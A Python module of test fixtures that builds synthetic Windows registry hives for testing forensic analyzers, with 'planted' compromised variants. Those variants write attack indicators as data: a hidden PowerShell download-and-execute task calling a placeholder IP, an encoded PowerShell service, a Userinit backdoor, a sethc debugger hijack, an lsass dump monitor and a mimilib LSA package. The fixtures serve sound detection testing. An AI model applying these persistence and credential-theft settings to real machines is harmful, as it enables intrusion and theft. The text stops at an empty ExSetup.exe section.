"""Builders of realistic synthetic hives (and a few companion files) on top of :mod:`triage.testing.regf`.

For tests, samples and benchmarks of the registry analyzers. Each builder returns a
:class:`~triage.testing.regf.HiveBuilder` so callers can add to it before writing:

* :func:`software_hive` - Windows Server SOFTWARE with installed programs and, optionally, Exchange
  2010/2013/2016/2019 at a build with the ``Microsoft\\Updates`` and Uninstall entries its security
  updates leave (:func:`exchange_install`);
* :func:`system_hive`, :func:`sam_hive`, :func:`ntuser_hive`, :func:`amcache_hive` - benign baselines,
  with ``planted_*`` variants carrying persistence, credential-theft settings and accounts;
* binary value encoders: AppCompatCache (Windows 10 layout), BAM, UserAssist, SAM ``F``/``V``, TaskCache
  ``Actions``;
* :func:`dirty_pair` - a dirty primary hive plus a ``.LOG1`` in the Windows 8.1+ (HvLE) format whose
  pages turn it into another hive;
* :func:`exsetup_exe` - a small PE file with a version resource, standing in for Exchange's ExSetup.exe.

Everything here is written from public format descriptions; nothing is copied from real systems.
"""

from __future__ import annotations

import codecs
import struct
import zlib
from collections.abc import Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

from triage.testing.regf import HiveBuilder, base_block_checksum, filetime

T_INSTALL = datetime(2019, 6, 12, 9, 30, tzinfo=UTC)
T_BOOT = datetime(2021, 2, 27, 4, 2, 11, tzinfo=UTC)
T_ATTACK = datetime(2021, 3, 3, 2, 20, tzinfo=UTC)
DEFAULT_INSTALL = r"C:\Program Files\Microsoft\Exchange Server\V15"
CCS = "ControlSet001"

# Exchange security update KBs (March 2021: KB5000871; Exchange 2010 SP3 RU32: KB5000978; April 2021: KB5001779)
KB_MARCH = "KB5000871"
KB_MARCH_E2010 = "KB5000978"
KB_APRIL = "KB5001779"
PRODUCTS = {(15, 0): "2013", (15, 1): "2016", (15, 2): "2019", (14, 3): "2010"}


def _ts(dt: datetime) -> int:
    return filetime(dt)


# ---------------------------------------------------------------------------------------------------
# SOFTWARE


@dataclass
class ExchangeInstall:
    """An Exchange installation as the SOFTWARE hive records it.

    ``build`` is what ``...\\Setup`` holds: the cumulative update's RTM build (security updates do not
    change it). ``updates`` are security update KBs, each written under ``Microsoft\\Updates`` and as an
    Uninstall entry the way the installer leaves them.
    """

    build: tuple[int, int, int, int] = (15, 1, 2176, 2)
    updates: tuple[str, ...] = ()
    install_path: str = DEFAULT_INSTALL
    installed: datetime = T_INSTALL
    update_dates: dict[str, str] = field(default_factory=dict)
    write_uninstall: bool = True
    write_updates_key: bool = True


def exchange_install(hb: HiveBuilder, ex: ExchangeInstall) -> None:
    """Write ``ex`` into a SOFTWARE hive builder."""
    major, minor, build, rev = ex.build
    product = PRODUCTS.get((major, minor), f"{major}.{minor}")
    setup = rf"Microsoft\ExchangeServer\v{major}\Setup"
    hb.add_key(setup, timestamp=ex.installed)
    install = ex.install_path.rstrip("\\") + "\\"
    hb.set_value(setup, "MsiInstallPath", install)
    hb.set_value(setup, "MsiProductMajor", major)
    hb.set_value(setup, "MsiProductMinor", minor)
    hb.set_value(setup, "MsiBuildMajor", build)
    hb.set_value(setup, "MsiBuildMinor", rev)
    hb.set_value(rf"Microsoft\ExchangeServer\v{major}\Setup", "Services", install + "Bin")
    product_code = "{CD981244-E9B8-405A-9026-6AEB9DCEF1F1}"
    unin = rf"Microsoft\Windows\CurrentVersion\Uninstall\{product_code}"
    hb.add_key(unin, timestamp=ex.installed)
    hb.set_value(unin, "DisplayName", f"Microsoft Exchange Server {product}")
    hb.set_value(unin, "DisplayVersion", f"{major}.{minor}.{build}.{rev}")
    hb.set_value(unin, "Publisher", "Microsoft Corporation")
    hb.set_value(unin, "InstallDate", ex.installed.strftime("%Y%m%d"))
    hb.set_value(unin, "InstallLocation", install)
    for kb in ex.updates:
        date = ex.update_dates.get(kb, "3/3/2021" if kb != KB_APRIL else "4/14/2021")
        name = f"Security Update for Exchange Server {product} ({kb})"
        if ex.write_updates_key:
            key = rf"Microsoft\Updates\Exchange {product}\{kb}"
            hb.set_value(key, "PackageName", name)
            hb.set_value(key, "InstalledDate", date)
            hb.set_value(key, "InstalledBy", "CORP\\exadmin")
        if ex.write_uninstall:
            key = rf"Microsoft\Windows\CurrentVersion\Uninstall\{product_code}_{kb}"
            hb.set_value(key, "DisplayName", name)
            hb.set_value(key, "ParentKeyName", product_code)
            hb.set_value(key, "Publisher", "Microsoft Corporation")


# Supported CUs of March/April 2021: (RTM build, March SU revision, April SU revision); CU20/CU9 shipped
# with the March fixes (ED2102-REFERENCE 3.6)
EXCHANGE_CUS: dict[tuple[str, str], tuple[tuple[int, int, int, int], int, int]] = {
    ("2013", "CU23"): ((15, 0, 1497, 2), 12, 15),
    ("2016", "CU19"): ((15, 1, 2176, 2), 9, 12),
    ("2016", "CU20"): ((15, 1, 2242, 4), 4, 8),
    ("2019", "CU8"): ((15, 2, 792, 3), 10, 13),
    ("2019", "CU9"): ((15, 2, 858, 5), 5, 10),
}


def exchange_at(product: str, cu: str, level: str) -> tuple[ExchangeInstall, tuple[int, int, int, int]]:
    """An Exchange install at ``level`` (``vulnerable``, ``march`` or ``april``) and its ExSetup.exe version.

    The registry keeps the CU's RTM build; the updates installed for the level are recorded as KBs, and
    the returned version is what ExSetup.exe's version resource would say.
    """
    rtm, march, april = EXCHANGE_CUS[(product, cu)]
    updates = {"vulnerable": (), "march": (KB_MARCH,), "april": (KB_MARCH, KB_APRIL)}[level]
    if rtm[3] >= march and level != "april":  # CU shipped with the March fixes: no March SU to install
        updates = ()
    rev = {"vulnerable": rtm[3], "march": max(march, rtm[3]), "april": april}[level]
    return ExchangeInstall(rtm, updates), (*rtm[:3], rev)


STOCK_PROGRAMS = (
    (
        "{F1B0FB3A-E0EA-47A6-9383-3650655403B0}",
        "Microsoft Visual C++ 2012 Redistributable (x64) - 11.0.61030",
        "11.0.61030.0",
        "Microsoft Corporation",
    ),
    (
        "{929FBD26-9020-399B-9A7A-751D61F0B942}",
        "Microsoft Visual C++ 2013 x64 Additional Runtime - 12.0.21005",
        "12.0.21005",
        "Microsoft Corporation",
    ),
    (
        "{9BE518E6-ECC6-35A9-88E4-87755C07200F}",
        "Microsoft Unified Communications Managed API 4.0, Runtime",
        "5.0.8308.0",
        "Microsoft Corporation",
    ),
    ("{9BCA2118-F753-4A1E-BCF3-5A820729965C}", "IIS URL Rewrite Module 2", "7.2.1993", "Microsoft Corporation"),
    ("{5FC7EE61-A4A0-4FAB-9B3B-0D1A1EEB25E6}", "VMware Tools", "11.2.5.17337674", "VMware, Inc."),
)


def software_hive(
    *,
    exchange: ExchangeInstall | None = None,
    product_name: str = "Windows Server 2016 Standard",
    current_build: str = "14393",
    ubr: int = 4169,
    programs: Iterable[tuple[str, str, str, str]] = STOCK_PROGRAMS,
    msert: dict[str, object] | None = None,
    timestamp: datetime = T_BOOT,
) -> HiveBuilder:
    """A benign Windows Server SOFTWARE hive, with Exchange when ``exchange`` is given."""
    hb = HiveBuilder(file_name=r"\SystemRoot\System32\Config\SOFTWARE", timestamp=timestamp)
    cv = r"Microsoft\Windows NT\CurrentVersion"
    hb.add_key(cv, timestamp=T_INSTALL)
    hb.set_value(cv, "ProductName", product_name)
    hb.set_value(cv, "EditionID", "ServerStandard")
    hb.set_value(cv, "CurrentBuild", current_build)
    hb.set_value(cv, "CurrentBuildNumber", current_build)
    hb.set_value(cv, "CurrentVersion", "6.3")
    hb.set_value(cv, "ReleaseId", "1607")
    hb.set_value(cv, "UBR", ubr)
    hb.set_value(cv, "InstallationType", "Server")
    hb.set_value(cv, "InstallDate", int(T_INSTALL.timestamp()))
    hb.set_value(cv, "RegisteredOwner", "Windows User")
    hb.set_value(cv, "SystemRoot", r"C:\Windows")
    hb.set_value(cv + r"\Winlogon", "Shell", "explorer.exe")
    hb.set_value(cv + r"\Winlogon", "Userinit", "C:\\Windows\\system32\\userinit.exe,")
    hb.set_value(cv + r"\Windows", "AppInit_DLLs", "")
    hb.set_value(cv + r"\Windows", "LoadAppInit_DLLs", 0)
    for exe in ("winword.exe", "excel.exe", "iexplore.exe"):
        hb.set_value(cv + rf"\Image File Execution Options\{exe}", "UseFilter", 0)
    hb.set_value(
        r"Microsoft\Windows\CurrentVersion\Run",
        "VMware User Process",
        r'"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr',
    )
    hb.set_value(
        r"Microsoft\Windows\CurrentVersion\Run",
        "SecurityHealth",
        r"%windir%\system32\SecurityHealthSystray.exe",
        "REG_EXPAND_SZ",
    )
    hb.add_key(r"Microsoft\Windows\CurrentVersion\RunOnce")
    task(
        "{6B1F8C22-4E8B-4D55-9B4C-1D2E3F405162}",
        r"\Microsoft\Windows\Defrag\ScheduledDefrag",
        r"%windir%\system32\defrag.exe",
        "-c -h -o -$",
        hb,
    )
    for code, name, version, publisher in programs:
        key = rf"Microsoft\Windows\CurrentVersion\Uninstall\{code}"
        hb.set_value(key, "DisplayName", name)
        hb.set_value(key, "DisplayVersion", version)
        hb.set_value(key, "Publisher", publisher)
        hb.set_value(key, "InstallDate", "20190612")
    if exchange is not None:
        exchange_install(hb, exchange)
    if msert is not None:
        for name, data in msert.items():
            hb.set_value(r"MSERTBootstrap\PatchState", name, data)
    return hb


def task(guid: str, path: str, command: str, args: str = "", hb: HiveBuilder | None = None) -> HiveBuilder:
    """Add a scheduled task to ``TaskCache`` (Tree and Tasks) of a SOFTWARE hive builder."""
    hb = hb or HiveBuilder(file_name=r"\SystemRoot\System32\Config\SOFTWARE")
    base = r"Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache"
    hb.set_value(rf"{base}\Tasks\{guid}", "Path", path)
    hb.set_value(rf"{base}\Tasks\{guid}", "Actions", task_actions(command, args))
    hb.set_value(rf"{base}\Tree{path}", "Id", guid)
    return hb


def task_actions(command: str, args: str = "", author: str = "Author") -> bytes:
    """A TaskCache ``Actions`` blob (version 3) holding one exec action."""

    def s(text: str) -> bytes:
        raw = text.encode("utf-16-le")
        return struct.pack("<I", len(raw)) + raw

    return struct.pack("<H", 3) + s(author) + struct.pack("<H", 0x6666) + s("") + s(command) + s(args) + s("") + b"\0\0"


# ---------------------------------------------------------------------------------------------------
# SYSTEM


@dataclass
class Interface:
    """One network interface under ``Tcpip\\Parameters\\Interfaces``."""

    guid: str
    ip: list[str] = field(default_factory=list)
    mask: list[str] = field(default_factory=list)
    gateway: list[str] = field(default_factory=list)
    dhcp_ip: str = ""
    name_server: str = ""
    domain: str = ""


DEFAULT_INTERFACES = (
    Interface(
        "{5B9E3D1A-7C2F-4E6B-9A1D-0F3C2B4A6E8D}",
        ["10.0.0.10"],
        ["255.255.255.0"],
        ["10.0.0.1"],
        name_server="10.0.0.2,10.0.0.3",
        domain="corp.example",
    ),
    Interface("{A1C4E7F0-2B5D-4C8E-9F1A-3D6B8E0C2A4F}", dhcp_ip="192.168.50.23"),
)
STOCK_SERVICES = {
    "W32Time": (r"%SystemRoot%\system32\svchost.exe -k LocalService", 0x20),
    "MSExchangeFrontEndTransport": (
        r'"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeFrontendTransport.exe"',
        0x10,
    ),
    "W3SVC": (r"%systemroot%\system32\svchost.exe -k iissvcs", 0x20),
    "vmci": (r"\SystemRoot\System32\drivers\vmci.sys", 0x1),
    "Ucx01000": (r"\SystemRoot\System32\drivers\ucx01000.sys", 0x1),
    "MSSQL$SQLEXPRESS": (
        r'"C:\Program Files\Microsoft SQL Server\MSSQL15.SQLEXPRESS\MSSQL\Binn\sqlservr.exe" -sSQLEXPRESS',
        0x10,
    ),
    "CDPUserSvc_3a5f1": (r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup", 0xE0),
}


def system_hive(
    *,
    hostname: str = "EXCH01",
    domain: str = "corp.example",
    interfaces: Iterable[Interface] = DEFAULT_INTERFACES,
    timezone: str = "W. Europe Standard Time",
    bias: int = -60,
    shutdown: datetime | None = datetime(2021, 2, 27, 3, 58, 40, tzinfo=UTC),
    services: dict[str, tuple[str, int]] | None = None,
    rdp: bool = False,
    shimcache: Iterable[tuple[str, datetime]] = (),
    bam: dict[str, Iterable[tuple[str, datetime]]] | None = None,
    timestamp: datetime = T_BOOT,
) -> HiveBuilder:
    """A benign SYSTEM hive: one control set selected by ``Select\\Current``, stock LSA settings."""
    hb = HiveBuilder(file_name="SYSTEM", timestamp=timestamp)
    for name in ("Current", "Default", "LastKnownGood"):
        hb.set_value("Select", name, 1)
    hb.set_value("Select", "Failed", 0)
    c = CCS + r"\Control"
    hb.set_value(c + r"\ComputerName\ComputerName", "ComputerName", hostname.upper())
    hb.set_value(c + r"\ComputerName\ActiveComputerName", "ComputerName", hostname.upper())
    tcpip = CCS + r"\Services\Tcpip\Parameters"
    hb.set_value(tcpip, "Hostname", hostname.lower())
    hb.set_value(tcpip, "Domain", domain)
    hb.set_value(tcpip, "NV Hostname", hostname.lower())
    for itf in interfaces:
        key = tcpip + rf"\Interfaces\{itf.guid}"
        hb.set_value(key, "EnableDHCP", 0 if itf.ip else 1)
        if itf.ip:
            hb.set_value(key, "IPAddress", itf.ip)
            hb.set_value(key, "SubnetMask", itf.mask)
            hb.set_value(key, "DefaultGateway", itf.gateway)
        if itf.dhcp_ip:
            hb.set_value(key, "DhcpIPAddress", itf.dhcp_ip)
            hb.set_value(key, "DhcpSubnetMask", "255.255.255.0")
            hb.set_value(key, "DhcpServer", "192.168.50.1")
        if itf.name_server:
            hb.set_value(key, "NameServer", itf.name_server)
        if itf.domain:
            hb.set_value(key, "Domain", itf.domain)
    tz = c + r"\TimeZoneInformation"
    hb.set_value(tz, "TimeZoneKeyName", timezone)
    hb.set_value(tz, "Bias", bias & 0xFFFFFFFF)
    hb.set_value(tz, "ActiveTimeBias", bias & 0xFFFFFFFF)
    hb.set_value(tz, "DaylightBias", (-60) & 0xFFFFFFFF)
    hb.set_value(tz, "StandardName", "@tzres.dll,-321")
    if shutdown is not None:
        hb.set_value(c + r"\Windows", "ShutdownTime", struct.pack("<Q", filetime(shutdown)))
    lsa = c + r"\Lsa"
    hb.set_value(lsa, "Security Packages", ['""'])
    hb.set_value(lsa, "Authentication Packages", ["msv1_0"])
    hb.set_value(lsa, "Notification Packages", ["scecli"])
    hb.set_value(lsa, "RunAsPPL", 1)
    hb.set_value(lsa, "LimitBlankPasswordUse", 1)
    hb.set_value(c + r"\SecurityProviders\WDigest", "Debuglevel", 0)
    hb.set_value(c + r"\Terminal Server", "fDenyTSConnections", 0 if rdp else 1)
    for name, (image, stype) in (services if services is not None else STOCK_SERVICES).items():
        key = CCS + rf"\Services\{name}"
        hb.set_value(key, "ImagePath", image, "REG_EXPAND_SZ")
        hb.set_value(key, "Type", stype)
        hb.set_value(key, "Start", 2)
    entries = list(shimcache)
    hb.set_value(c + r"\Session Manager\AppCompatCache", "AppCompatCache", shimcache_blob(entries))
    for sid, items in (bam or {}).items():
        key = CCS + rf"\Services\bam\State\UserSettings\{sid}"
        hb.set_value(key, "Version", 1)
        hb.set_value(key, "SequenceNumber", 7)
        for path, when in items:
            hb.set_value(key, path, bam_value(when))
    return hb


def shimcache_blob(entries: Iterable[tuple[str, datetime]]) -> bytes:
    """AppCompatCache data in the Windows 10 1607+/Server 2016 layout (0x34 header, ``10ts`` entries)."""
    body = b""
    for path, modified in entries:
        raw = path.encode("utf-16-le")
        entry = struct.pack("<H", len(raw)) + raw + struct.pack("<Q", filetime(modified)) + struct.pack("<I", 0)
        body += b"10ts" + struct.pack("<II", 0, len(entry)) + entry
    header = struct.pack("<I", 0x34) + bytes(0x30)
    return header + body


def bam_value(when: datetime) -> bytes:
    """A BAM entry: the FILETIME of the last run, then 16 bytes Windows leaves zero."""
    return struct.pack("<Q", filetime(when)) + bytes(16)


# ---------------------------------------------------------------------------------------------------
# SAM


@dataclass
class Account:
    """A local account as the SAM stores it."""

    name: str
    rid: int
    created: datetime = T_INSTALL
    last_login: datetime | None = None
    password_set: datetime | None = T_INSTALL
    disabled: bool = False
    logins: int = 0
    full_name: str = ""
    comment: str = ""


STOCK_ACCOUNTS = (
    Account(
        "Administrator",
        500,
        last_login=datetime(2021, 2, 1, 8, 0, tzinfo=UTC),
        logins=42,
        comment="Built-in account for administering the computer/domain",
    ),
    Account("Guest", 501, disabled=True, password_set=None, comment="Built-in account for guest access"),
    Account("DefaultAccount", 503, disabled=True, password_set=None),
)


def sam_f(acct: Account) -> bytes:
    """The ``F`` value (80 bytes) of a user: times, RID, account control bits, counters."""
    data = bytearray(80)
    struct.pack_into("<HH", data, 0, 2, 1)
    struct.pack_into("<Q", data, 8, filetime(acct.last_login) if acct.last_login else 0)
    struct.pack_into("<Q", data, 24, filetime(acct.password_set) if acct.password_set else 0)
    struct.pack_into("<Q", data, 32, 0x7FFFFFFFFFFFFFFF)
    struct.pack_into("<I", data, 48, acct.rid)
    struct.pack_into("<H", data, 56, 0x0010 | 0x0200 | (0x0001 if acct.disabled else 0))
    struct.pack_into("<HH", data, 64, 0, acct.logins)
    return bytes(data)


def sam_v(acct: Account) -> bytes:
    """The ``V`` value of a user: a 0xCC-byte table of (offset, length) pairs, then the strings."""
    fields = [b"", acct.name.encode("utf-16-le"), acct.full_name.encode("utf-16-le"), acct.comment.encode("utf-16-le")]
    table = bytearray(0xCC)
    blob = bytearray()
    for i, raw in enumerate(fields):
        struct.pack_into("<III", table, i * 12, len(blob), len(raw), 0)
        blob += raw + bytes(-len(raw) % 4)
    return bytes(table + blob)


def sam_hive(accounts: Iterable[Account] = STOCK_ACCOUNTS, timestamp: datetime = T_BOOT) -> HiveBuilder:
    """A SAM hive with the given local accounts (``Users\\<RID>`` with F/V, ``Users\\Names\\<name>``)."""
    hb = HiveBuilder(file_name=r"\SystemRoot\System32\Config\SAM", timestamp=timestamp)
    users = r"SAM\Domains\Account\Users"
    hb.set_value(r"SAM\Domains\Account", "F", bytes(0x68))
    for acct in accounts:
        key = rf"{users}\{acct.rid:08X}"
        hb.add_key(key, timestamp=acct.last_login or acct.created)
        hb.set_value(key, "F", sam_f(acct))
        hb.set_value(key, "V", sam_v(acct))
        names = rf"{users}\Names\{acct.name}"
        hb.add_key(names, timestamp=acct.created)
        hb.set_value(names, "", b"", acct.rid)  # the value type carries the RID, as Windows stores it
    return hb


# ---------------------------------------------------------------------------------------------------
# NTUSER and Amcache

UA_EXE_GUID = "{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}"


def userassist_value(runs: int, last: datetime) -> bytes:
    """A 72-byte UserAssist entry (Windows 7+): run count at 4, last run FILETIME at 60."""
    data = bytearray(72)
    struct.pack_into("<II", data, 0, 0, runs)
    struct.pack_into("<Q", data, 60, filetime(last))
    return bytes(data)


def ntuser_hive(
    user: str = "exadmin",
    *,
    run: dict[str, str] | None = None,
    run_once: dict[str, str] | None = None,
    userassist: Iterable[tuple[str, int, datetime]] = (),
    timestamp: datetime = T_BOOT,
) -> HiveBuilder:
    """A user's NTUSER.DAT with Run/RunOnce values and UserAssist entries (names ROT13-encoded)."""
    hb = HiveBuilder(file_name=rf"\??\C:\Users\{user}\ntuser.dat", timestamp=timestamp)
    hb.set_value(r"Environment", "TEMP", r"%USERPROFILE%\AppData\Local\Temp", "REG_EXPAND_SZ")
    hb.set_value(r"Control Panel\International", "LocaleName", "en-US")
    base = r"Software\Microsoft\Windows\CurrentVersion"
    hb.add_key(base + r"\Run")
    hb.add_key(base + r"\RunOnce")
    for name, cmd in (run or {}).items():
        hb.set_value(base + r"\Run", name, cmd)
    for name, cmd in (run_once or {}).items():
        hb.set_value(base + r"\RunOnce", name, cmd)
    count = base + rf"\Explorer\UserAssist\{UA_EXE_GUID}\Count"
    hb.add_key(count)
    hb.set_value(count, codecs.encode("UEME_CTLSESSION", "rot13"), bytes(1612))
    for path, runs, last in userassist:
        hb.set_value(count, codecs.encode(path, "rot13"), userassist_value(runs, last))
    return hb


def amcache_hive(entries: Iterable[tuple[str, datetime]] = (), timestamp: datetime = T_BOOT) -> HiveBuilder:
    """An Amcache.hve with ``Root\\InventoryApplicationFile`` entries (path, first-seen time)."""
    hb = HiveBuilder(file_name=r"\??\C:\Windows\AppCompat\Programs\Amcache.hve", timestamp=timestamp)
    hb.add_key(r"Root\InventoryApplicationFile")
    for i, (path, when) in enumerate(entries):
        name = path.rsplit("\\", 1)[-1].lower()
        key = rf"Root\InventoryApplicationFile\{name[:20]}|{i:016x}"
        hb.add_key(key, timestamp=when)
        hb.set_value(key, "LowerCaseLongPath", path.lower())
        hb.set_value(key, "Name", name)
        hb.set_value(key, "FileId", "0000" + f"{i:040x}")
        hb.set_value(key, "Size", 123456, "REG_QWORD")
    return hb


# ---------------------------------------------------------------------------------------------------
# Planted (compromised) variants, as the registry tests expect them

SID_ADMIN = "S-1-5-21-1004336348-1177238915-682003330-500"


def planted_system() -> HiveBuilder:
    """SYSTEM with a PowerShell service, a random-named service in ProgramData, WDigest on, LSA weakened,
    RDP enabled and execution traces of procdump (ShimCache) and 7-Zip (BAM)."""
    services = dict(STOCK_SERVICES)
    services["WinUpdSvc"] = (r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", 0x10)
    services["xK7qZ2pLm9"] = (r"C:\ProgramData\xK7qZ2pLm9\svc.exe", 0x10)
    hb = system_hive(
        services=services,
        rdp=True,
        shimcache=[(r"C:\Windows\Temp\procdump64.exe", T_ATTACK), (r"C:\Windows\System32\notepad.exe", T_INSTALL)],
        bam={SID_ADMIN: [(r"\Device\HarddiskVolume2\ProgramData\7z.exe", T_ATTACK)]},
    )
    c = CCS + r"\Control"
    hb.set_value(c + r"\SecurityProviders\WDigest", "UseLogonCredential", 1)
    hb.set_value(c + r"\Lsa", "RunAsPPL", 0)
    hb.set_value(c + r"\Lsa", "Security Packages", ["kerberos", "msv1_0", "mimilib"])
    return hb


def planted_software(exchange: ExchangeInstall | None = None) -> HiveBuilder:
    """SOFTWARE with an HKLM Run entry in ProgramData, Winlogon Userinit backdoor, IFEO debugger on sethc,
    SilentProcessExit monitor on lsass, AppInit DLL loading and a scheduled task running PowerShell."""
    hb = software_hive(exchange=exchange)
    cv = r"Microsoft\Windows NT\CurrentVersion"
    hb.set_value(r"Microsoft\Windows\CurrentVersion\Run", "OneDriveUpdate", r"C:\ProgramData\OneDrive\upd.exe")
    hb.set_value(cv + r"\Winlogon", "Userinit", r"C:\Windows\system32\userinit.exe,C:\Windows\Temp\hlp.exe")
    hb.set_value(cv + r"\Image File Execution Options\sethc.exe", "Debugger", r"C:\Windows\System32\cmd.exe")
    hb.set_value(cv + r"\SilentProcessExit\lsass.exe", "MonitorProcess", r"C:\Windows\Temp\m.exe")
    hb.set_value(cv + r"\SilentProcessExit\lsass.exe", "ReportingMode", 2)
    hb.set_value(cv + r"\Windows", "AppInit_DLLs", r"C:\ProgramData\hook.dll")
    hb.set_value(cv + r"\Windows", "LoadAppInit_DLLs", 1)
    task(
        "{0D3B57D8-2E4F-4A1B-8C9D-7E6F5A4B3C2D}",
        r"\Microsoft\Windows\VSPerfMon\Updater",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"-w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
        hb,
    )
    return hb


def planted_sam() -> HiveBuilder:
    """SAM with a hidden ``$`` account and an account created in the directive window, Guest enabled and
    the built-in administrator renamed."""
    accounts = [
        Account("LocalAdm", 500, last_login=datetime(2021, 2, 1, 8, 0, tzinfo=UTC), logins=42),
        Account("Guest", 501, disabled=False, password_set=None),
        Account("DefaultAccount", 503, disabled=True, password_set=None),
        Account(
            "support",
            1001,
            created=datetime(2021, 3, 3, 2, 31, tzinfo=UTC),
            last_login=datetime(2021, 3, 3, 2, 35, tzinfo=UTC),
            logins=3,
        ),
        Account("svc$", 1002, created=datetime(2020, 11, 2, 10, 0, tzinfo=UTC)),
    ]
    return sam_hive(accounts)


def planted_ntuser(user: str = "exadmin") -> HiveBuilder:
    """NTUSER with a Run entry launching PowerShell from AppData and UserAssist traces of mimikatz and
    PsExec."""
    return ntuser_hive(
        user,
        run={
            "OneDrive": r"C:\Users\exadmin\AppData\Local\Microsoft\OneDrive\OneDrive.exe /background",
            "Updater": r"powershell.exe -w hidden -ep bypass -f C:\Users\Public\u.ps1",
        },
        userassist=[
            (r"C:\Users\exadmin\Downloads\mimikatz_trunk\x64\mimikatz.exe", 2, T_ATTACK),
            (r"{1AC14E77-02E7-4E5D-B744-2EB1AE5198B7}\notepad.exe", 9, T_INSTALL),
            (r"C:\Tools\PsExec64.exe", 1, T_ATTACK),
        ],
    )


def planted_amcache() -> HiveBuilder:
    """Amcache with an executable dropped in the Exchange web folders and nc.exe in ProgramData."""
    return amcache_hive(
        [
            (r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\cw.exe", T_ATTACK),
            (r"C:\ProgramData\nc.exe", T_ATTACK),
            (r"C:\Windows\System32\inetsrv\w3wp.exe", T_INSTALL),
        ]
    )


# ---------------------------------------------------------------------------------------------------
# Rule examples (the 'tests' of signatures/registry/*.yaml) as hives

FILE_NAMES = {
    "system": "SYSTEM",
    "software": r"\SystemRoot\System32\Config\SOFTWARE",
    "sam": r"\SystemRoot\System32\Config\SAM",
    "security": r"\SystemRoot\System32\Config\SECURITY",
    "ntuser": r"\??\C:\Users\exadmin\ntuser.dat",
    "amcache": r"\??\C:\Windows\AppCompat\Programs\Amcache.hve",
}


def example_hive(hive_type: str, example: list[dict[str, Any]] | dict[str, Any]) -> HiveBuilder:
    """Build the hive a rule example describes, on the benign baseline of its type unless ``base: empty``.

    Items: ``{key, values}`` (a leading ``CurrentControlSet`` means ``ControlSet001``), ``{task: {...}}``,
    ``{account: {...}}``, ``{amcache|shimcache|bam|userassist: PATH}``.
    """
    items = example.get("items", []) if isinstance(example, dict) else example
    base = not (isinstance(example, dict) and example.get("base") == "empty")
    baselines: dict[str, Any] = {
        "system": system_hive,
        "software": software_hive,
        "ntuser": ntuser_hive,
        "amcache": amcache_hive,
        "sam": sam_hive,
    }
    hb = baselines[hive_type]() if base and hive_type in baselines else HiveBuilder(file_name=FILE_NAMES[hive_type])
    shim: list[tuple[str, datetime]] = []
    accounts: list[Account] = []
    for item in items:
        if "key" in item:
            path = str(item["key"])
            if path.lower().startswith("currentcontrolset"):
                path = CCS + path[len("CurrentControlSet") :]
            hb.add_key(path)
            for name, data in (item.get("values") or {}).items():
                if isinstance(data, dict):
                    hb.set_value(path, name, data["data"], data["type"])
                else:
                    hb.set_value(path, name, data)
        elif "task" in item:
            t = item["task"]
            guid = f"{{{zlib.crc32(t['path'].encode()):08X}-0000-4000-8000-000000000000}}"
            task(guid, t["path"], t["command"], t.get("args", ""), hb)
        elif "account" in item:
            a = dict(item["account"])
            accounts.append(Account(a.pop("name"), int(a.pop("rid")), **a))
        elif "amcache" in item:
            entry_id = f"{len(items):04x}{zlib.crc32(str(item['amcache']).encode()):08x}"
            key = rf"Root\InventoryApplicationFile\example|{entry_id}"
            hb.add_key(key, timestamp=T_ATTACK)
            hb.set_value(key, "LowerCaseLongPath", str(item["amcache"]).lower())
        elif "shimcache" in item:
            shim.append((str(item["shimcache"]), T_ATTACK))
        elif "bam" in item:
            key = CCS + rf"\Services\bam\State\UserSettings\{SID_ADMIN}"
            hb.set_value(key, str(item["bam"]), bam_value(T_ATTACK))
        elif "userassist" in item:
            count = rf"Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{UA_EXE_GUID}\Count"
            hb.set_value(count, codecs.encode(str(item["userassist"]), "rot13"), userassist_value(1, T_ATTACK))
        else:
            raise ValueError(f"unknown example item {item!r}")
    if shim:
        hb.set_value(CCS + r"\Control\Session Manager\AppCompatCache", "AppCompatCache", shimcache_blob(shim))
    if hive_type == "sam" and accounts:
        hb = sam_hive([*(STOCK_ACCOUNTS if base else ()), *accounts])
    return hb


# ---------------------------------------------------------------------------------------------------
# Dirty hives and transaction logs

PAGE = 4096


def dirty_pair(old: HiveBuilder, new: HiveBuilder) -> tuple[bytes, bytes]:
    """A dirty primary hive written from ``old`` and a ``.LOG1`` whose dirty pages turn it into ``new``.

    The log has a 512-byte base block and one HvLE entry (sequence number = the primary's secondary
    sequence number) holding every 4 KiB page where the two hives differ, laid out as the public format
    description has it (header, page references, pages, padding to 512 bytes). The entry's Marvin32
    hashes are left zero: Windows checks them, regipy does not. The primary is padded with zeros when ``new``
    has more hive bins, as the file would have been grown.
    """
    old_b, new_b = old.to_bytes(dirty=True), new.to_bytes()
    old_bins, new_bins = old_b[PAGE:], new_b[PAGE:]
    if len(old_bins) < len(new_bins):
        old_b += bytes(len(new_bins) - len(old_bins))
        old_bins = old_b[PAGE:]
    primary_seq, secondary_seq = struct.unpack_from("<II", old_b, 4)
    pages = [
        (off, new_bins[off : off + PAGE])
        for off in range(0, len(new_bins), PAGE)
        if new_bins[off : off + PAGE] != old_bins[off : off + PAGE]
    ]
    # header, page references, then the pages themselves; the entry is padded to a multiple of 512
    body = 40 + 8 * len(pages) + PAGE * len(pages)
    size = body + (-body % 512)
    entry = bytearray(40 + 8 * len(pages))
    struct.pack_into("<4sIIIII", entry, 0, b"HvLE", size, 0, secondary_seq, len(new_bins), len(pages))
    for i, (off, data) in enumerate(pages):
        struct.pack_into("<II", entry, 40 + 8 * i, off, len(data))
    entry += b"".join(data for _, data in pages)
    entry += bytes(size - len(entry))
    base = bytearray(old_b[:512])
    struct.pack_into("<II", base, 4, primary_seq, secondary_seq)
    struct.pack_into("<I", base, 28, 6)  # file type: transaction log (Windows 8.1+ format)
    struct.pack_into("<I", base, 508, base_block_checksum(bytes(base)))
    return old_b, bytes(base) + bytes(entry)


# ---------------------------------------------------------------------------------------------------
# ExSetup.exe stand-in


